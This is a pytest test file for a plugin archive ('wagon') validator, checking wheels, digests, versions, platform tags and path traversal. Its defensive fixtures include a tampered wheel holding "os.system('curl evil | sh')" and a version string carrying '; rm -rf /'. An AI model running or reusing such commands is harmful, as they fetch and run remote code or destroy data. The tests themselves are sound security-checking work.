"""The in-process checks, each on a wagon the test breaks itself; no subprocess runs here."""

from __future__ import annotations

import hashlib
import json
from pathlib import Path

import pytest

from packager.check.report import Status, WagonReport, exit_code, to_json
from packager.check.validate import Settings, validate_wagon
from packager.targets import Host

from ..wagons import PLUGIN_YAML, TASKS, YAML_WHEEL, hello, ours, wagon_03, wheel_bytes

PLUGIN_WHEEL = "hello_plugin-1.0.0-py3-none-any.whl"
IN_PROCESS = Settings(clean_room=False)


def check(path: Path, host: Host) -> dict[str, tuple[Status, str]]:
    report = validate_wagon(path, {}, host, IN_PROCESS)
    return {c.name: (c.status, c.reason) for c in report.checks}


def failed(path: Path, host: Host) -> dict[str, str]:
    return {n: r for n, (s, r) in check(path, host).items() if s is Status.FAILED}


def test_a_whole_wagon_passes_with_operations_checked_statically(tmp_path: Path, host: Host) -> None:
    report = validate_wagon(hello().write(tmp_path), {}, host, IN_PROCESS)
    results = {c.name: (c.status, c.reason) for c in report.checks}
    # Without a clean room a top-level def is all there is to find: nothing to warn about.
    assert {n: s for n, (s, _) in results.items() if s is not Status.PASSED} == {}
    assert results["operations:plugin.yaml"][1] == (
        "operation mappings found statically (bound at the module's top level): 1")
    (operations,) = [c for c in report.checks if c.name == "operations:plugin.yaml"]
    assert [f.text for f in operations.findings] == [
        "hello.hello_plugin.tasks.greet: hello_plugin/tasks.py binds greet by def"]
    assert set(results) == {
        "archive", "package.json", "metadata", "top-dir", "wheels", "files", "file-name",
        "sidecars", "digests", "wheel-metadata", "plugin-wheel", "pythons", "tags",
        "python-requires", "yaml:plugin.yaml", "operations:plugin.yaml",
    }


def test_missing_wheel(tmp_path: Path, host: Host) -> None:
    layout = hello()
    del layout.wheels[YAML_WHEEL]
    assert failed(layout.write(tmp_path), host) == {
        "wheels": f"listed but missing from wheels/: {YAML_WHEEL}",
    }


def test_extra_wheel(tmp_path: Path, host: Host) -> None:
    layout = hello()
    layout.wheels["six-1.17.0-py2.py3-none-any.whl"] = wheel_bytes("six", "1.17.0")
    assert failed(layout.write(tmp_path), host) == {
        "wheels": "in wheels/ but not listed: six-1.17.0-py2.py3-none-any.whl",
        "digests": "no digest recorded for six-1.17.0-py2.py3-none-any.whl",
    }


def test_tampered_wheel(tmp_path: Path, host: Host) -> None:
    layout = hello()
    tampered = wheel_bytes("hello-plugin", "1.0.0", {
        "hello_plugin/__init__.py": "import os; os.system('curl evil | sh')",
        "hello_plugin/tasks.py": TASKS,
    }, requires_python=">=3.6")
    recorded = layout.metadata["plugin_packager"]["wheels"][PLUGIN_WHEEL]["sha256"]
    layout.wheels[PLUGIN_WHEEL] = tampered
    actual = hashlib.sha256(tampered).hexdigest()
    assert failed(layout.write(tmp_path), host) == {
        "digests": f"{PLUGIN_WHEEL} has sha256 {actual}, package.json records {recorded}",
    }


def test_wrong_version_in_metadata(tmp_path: Path, host: Host) -> None:
    layout = hello()
    layout.metadata["package_version"] = "1.0.1"
    name = "hello_plugin-1.0.1-manylinux-py311-none-manylinux2014_x86_64.wgn"
    found = failed(layout.write(tmp_path, name=name), host)
    assert found["plugin-wheel"] == (
        f"package_version is '1.0.1' but {PLUGIN_WHEEL}'s METADATA says '1.0.0'"
    )
    assert found["yaml:plugin.yaml"] == (
        "files/plugin.yaml: plugins.hello.package_version is '1.0.0' but the built wheel is '1.0.1'"
    )
    assert found["file-name"] == (
        "archive_name is 'hello_plugin-1.0.0-manylinux-py311-none-manylinux2014_x86_64.wgn'; the"
        " metadata makes it 'hello_plugin-1.0.1-manylinux-py311-none-manylinux2014_x86_64.wgn'"
    )


def test_yaml_version_disagrees_with_the_wagon(tmp_path: Path, host: Host) -> None:
    layout = hello()
    layout.files["plugin.yaml"] = PLUGIN_YAML.replace("'1.0.0'", "'0.9.0'").encode()
    assert failed(layout.write(tmp_path), host) == {
        "yaml:plugin.yaml": "files/plugin.yaml: plugins.hello.package_version is '0.9.0' but the"
        " built wheel is '1.0.0'",
    }


def test_operation_pointing_to_a_missing_function(tmp_path: Path, host: Host) -> None:
    layout = hello()
    layout.files["plugin.yaml"] = PLUGIN_YAML.replace("tasks.greet", "tasks.farewell").encode()
    assert failed(layout.write(tmp_path), host) == {
        "operations:plugin.yaml": "hello.hello_plugin.tasks.farewell: hello_plugin/tasks.py"
        " defines no farewell",
    }


def test_operation_pointing_to_a_missing_module(tmp_path: Path, host: Host) -> None:
    layout = hello()
    layout.files["plugin.yaml"] = PLUGIN_YAML.replace("tasks.greet", "taskz.greet").encode()
    assert failed(layout.write(tmp_path), host) == {
        "operations:plugin.yaml": "hello.hello_plugin.taskz.greet: no wheel in the wagon has a"
        " module hello_plugin.taskz",
    }


def test_cp313_wheel_in_a_py311_wagon(tmp_path: Path, host: Host) -> None:
    layout = hello()
    cp313 = "markupsafe-3.0.2-cp313-cp313-manylinux_2_17_x86_64.manylinux2014_x86_64.whl"
    layout.wheels[cp313] = wheel_bytes("MarkupSafe", "3.0.2", {"markupsafe/__init__.py": ""})
    layout = ours(layout.wheels, layout.files)
    assert failed(layout.write(tmp_path), host) == {
        "tags": f"{cp313} fits none of cp311-manylinux2014_x86_64",
    }


def test_manylinux_2_34_wheel_in_a_manylinux2014_wagon(tmp_path: Path, host: Host) -> None:
    layout = hello()
    too_new = "cryptography-44.0.0-cp39-abi3-manylinux_2_34_x86_64.whl"
    layout.wheels[too_new] = wheel_bytes("cryptography", "44.0.0", {"cryptography/__init__.py": ""})
    layout = ours(layout.wheels, layout.files)
    assert failed(layout.write(tmp_path), host) == {
        "tags": f"{too_new} fits none of cp311-manylinux2014_x86_64",
    }


def test_python_requires_that_excludes_a_listed_python(tmp_path: Path, host: Host) -> None:
    layout = ours(hello().wheels, hello().files, requires_python=">=3.12")
    assert failed(layout.write(tmp_path), host) == {
        "python-requires": "Python 3.11, which the wagon lists, is excluded by python_requires"
        " '>=3.12'; no wheel excludes it: package.json's python_requires is wrong",
    }


def test_python_requires_failure_names_the_wheels_that_exclude(tmp_path: Path, host: Host) -> None:
    layout = hello()
    layout.wheels[YAML_WHEEL] = wheel_bytes("PyYAML", "6.0.2", {"yaml/__init__.py": ""},
                                            requires_python=">=3.12")
    layout = ours(layout.wheels, layout.files, requires_python=">=3.12")
    reason = failed(layout.write(tmp_path), host)["python-requires"]
    assert reason.startswith("Python 3.11, which the wagon lists, is excluded by python_requires"
                             f" '>=3.12'; the wheels that exclude it: {YAML_WHEEL}"
                             " (Requires-Python >=3.12)")


def test_a_wheel_whose_metadata_is_another_package(tmp_path: Path, host: Host) -> None:
    layout = hello()
    layout.wheels[YAML_WHEEL] = wheel_bytes("evil", "6.0.2")
    layout = ours(layout.wheels, layout.files)
    assert failed(layout.write(tmp_path), host) == {
        "wheel-metadata": f"{YAML_WHEEL} holds evil 6.0.2 in its METADATA",
    }


def test_sidecars_are_compared_when_present(tmp_path: Path, host: Host) -> None:
    path = hello().write(tmp_path)
    digest = hashlib.sha256(path.read_bytes()).hexdigest()
    Path(f"{path}.sha256").write_text(f"{digest}\n")
    Path(f"{path}.md5").write_text("0" * 32 + "\n")
    assert failed(path, host) == {
        "sidecars": f"{path.name}.md5 says '{'0' * 32}', the wagon's is"
        f" {hashlib.md5(path.read_bytes()).hexdigest()}",
    }


def test_a_renamed_wagon_of_ours(tmp_path: Path, host: Host) -> None:
    path = hello().write(tmp_path, name="hello.wgn")
    assert failed(path, host) == {
        "file-name": "the file is 'hello.wgn'; the metadata makes it"
        " 'hello_plugin-1.0.0-manylinux-py311-none-manylinux2014_x86_64.wgn'",
    }


def test_an_unsafe_archive_is_one_failed_check(tmp_path: Path, host: Host) -> None:
    layout = hello()
    layout.files["../../escape"] = b"x"
    report = validate_wagon(layout.write(tmp_path), {}, host, IN_PROCESS)
    assert [(c.name, c.status) for c in report.checks] == [("archive", Status.FAILED)]
    assert "points outside the archive" in report.checks[0].reason
    assert exit_code([report]) == 5


def legacy_03(tmp_path: Path, pythons: list[str]) -> Path:
    wheels = {
        "legacy_plugin-0.5.2-py3-none-any.whl": wheel_bytes(
            "legacy-plugin", "0.5.2", {"legacy_plugin/__init__.py": ""}),
        "six-1.17.0-py2.py3-none-any.whl": wheel_bytes("six", "1.17.0", {"six.py": ""}),
    }
    return wagon_03(wheels, pythons, "linux_x86_64").write(tmp_path, "tar.gz")


def test_a_wagon_0_3_archive_is_read_with_warnings(tmp_path: Path, host: Host) -> None:
    results = check(legacy_03(tmp_path, ["py311"]), host)
    assert not [n for n, (s, _) in results.items() if s is Status.FAILED]
    warned = {n: r for n, (s, r) in results.items() if s is Status.WARNING}
    assert set(warned) == {"metadata", "file-name", "digests"}
    assert warned["metadata"] == (
        "wagon 0.3.2 wrote no 'files' key; no 'package_build_tag' key; no 'python_requires' key;"
        " 'distribution:' (the wagon 0.3 typo) instead of 'distribution'"
    )
    assert warned["digests"] == "wagon 0.3.2 records no per-wheel sha256: integrity not checked"
    assert results["tags"] == (Status.PASSED, "every wheel's tags fit cp311-linux_x86_64")


def test_a_python_2_wagon_is_read_and_its_checks_say_what_they_could_not_do(
    tmp_path: Path, host: Host
) -> None:
    results = check(legacy_03(tmp_path, ["py27"]), host)
    assert not [n for n, (s, _) in results.items() if s is Status.FAILED]
    assert results["pythons"] == (
        Status.WARNING, "py27: not a CPython 3 version the manager reads; not checked")
    assert results["tags"][0] is Status.WARNING


def test_exit_codes_and_json() -> None:
    passed = WagonReport("a.wgn")
    passed.add("x", Status.PASSED, "ok")
    passed.add("y", Status.WARNING, "hm")
    skipped = WagonReport("b.wgn")
    skipped.add("install:py36", Status.SKIPPED, "no Python 3.6")
    assert exit_code([passed]) == 0
    assert exit_code([passed, skipped]) == 6
    broken = WagonReport("c.wgn")
    broken.add("tags", Status.FAILED, "no")
    assert exit_code([skipped, broken]) == 5
    body = json.loads(to_json([passed, broken]))
    assert body["status"] == "failed"
    assert body["wagons"][0] == {"wagon": "a.wgn", "status": "warning", "checks": [
        {"name": "x", "status": "passed", "reason": "ok"},
        {"name": "y", "status": "warning", "reason": "hm"},
    ]}


@pytest.mark.parametrize("fmt", ["zip", "tar.gz"])
def test_both_containers(tmp_path: Path, host: Host, fmt: str) -> None:
    assert failed(hello().write(tmp_path, fmt), host) == {}


def test_our_wagon_without_a_plugin_yaml_is_a_warning(tmp_path: Path, host: Host) -> None:
    layout = ours(hello().wheels, {})
    results = check(layout.write(tmp_path), host)
    status, reason = results["yaml"]
    assert status is Status.WARNING
    assert reason.startswith("no plugin YAML (plugin.yaml, v2_plugin.yaml, plugin_1_4.yaml,"
                             " plugin_1_5.yaml) in files: a manager cannot upload the wagon")
    assert not failed(tmp_path / layout.metadata["archive_name"], host)


def test_a_yaml_naming_no_plugin_entry_is_a_warning(tmp_path: Path, host: Host) -> None:
    layout = ours(hello().wheels, {"plugin.yaml": b"plugins: {}\nnode_types: {}\n"})
    status, reason = check(layout.write(tmp_path), host)["yaml"]
    assert status is Status.WARNING
    assert reason.startswith("no plugins: entry with package_name hello-plugin in plugin.yaml")


@pytest.mark.parametrize(("recorded", "asked"), [
    ("3.6.15", "3.6.15"), (None, "3.6"), ("3.7.1", "3.6"), ("3.6.x; rm -rf /", "3.6"), (36, "3.6"),
])
def test_a_foreign_install_asks_uv_for_the_python_release_the_build_resolved(
    tmp_path: Path, host: Host, monkeypatch: pytest.MonkeyPatch, recorded: object, asked: str,
) -> None:
    """The trial's bug A: uv read `3.6` as 3.6.0, so pyparsing 3.1.4 (Requires-Python >=3.6.8)
    failed cp36 aarch64 wagons the build had resolved for 3.6.15; a hostile value is ignored."""
    from packager import _installers

    base = hello()
    layout = ours(base.wheels, base.files, pytags=("py36",),
                         platform="manylinux2014_aarch64")
    if recorded is not None:
        layout.metadata["plugin_packager"]["python_full_versions"] = {
            "cp36-manylinux2014_aarch64": recorded}
    versions: list[str] = []
    monkeypatch.setattr(_installers, "install_for_platform",
                        lambda *_args, **kwargs: versions.append(kwargs["python_version"]))
    validate_wagon(layout.write(tmp_path), {}, host, Settings())
    assert versions == [asked]
